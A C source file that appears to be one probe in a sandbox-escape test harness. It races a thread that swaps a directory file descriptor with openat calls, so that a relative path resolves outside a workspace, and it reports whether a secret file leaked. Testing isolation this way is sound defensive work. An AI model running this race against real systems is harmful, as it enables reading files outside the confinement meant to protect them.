#include "attack.h"
#include "opens.h"

static volatile int over, folder;
static int folders[2];

static void *keep_moving(void *none)
{
    for (unsigned turn = 0; !over; turn++)
        dup2(folders[turn % 2], folder);
    return none;
}

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* The folder that a path is meant from is another one by the time it is used. */
    char *own = in(workspace, "own"), *file = NULL, *outer = strdup(target);
    (void)extra;
    *strrchr(outer, '/') = '\0';
    mkdir(own, 0700);
    if (asprintf(&file, "%s/target", own) < 0)
        return 0;
    close(open(file, O_CREAT | O_WRONLY, 0600));
    folders[0] = open(own, O_PATH | O_DIRECTORY);
    folders[1] = open(outer, O_PATH | O_DIRECTORY);
    if (folders[1] < 0)
        folders[1] = open("/", O_PATH | O_DIRECTORY);
    folder = dup(folders[0]);
    pthread_t other;
    int leaked = 0;
    if (pthread_create(&other, NULL, keep_moving, NULL) != 0)
        return 0;
    while (!leaked && goes_on())
        leaked = first_of(openat(folder, "target", O_RDONLY)) == 's' || first_of(openat(folder, target + 1, O_RDONLY)) == 's';
    over = 1;
    pthread_join(other, NULL);
    return leaked;
}
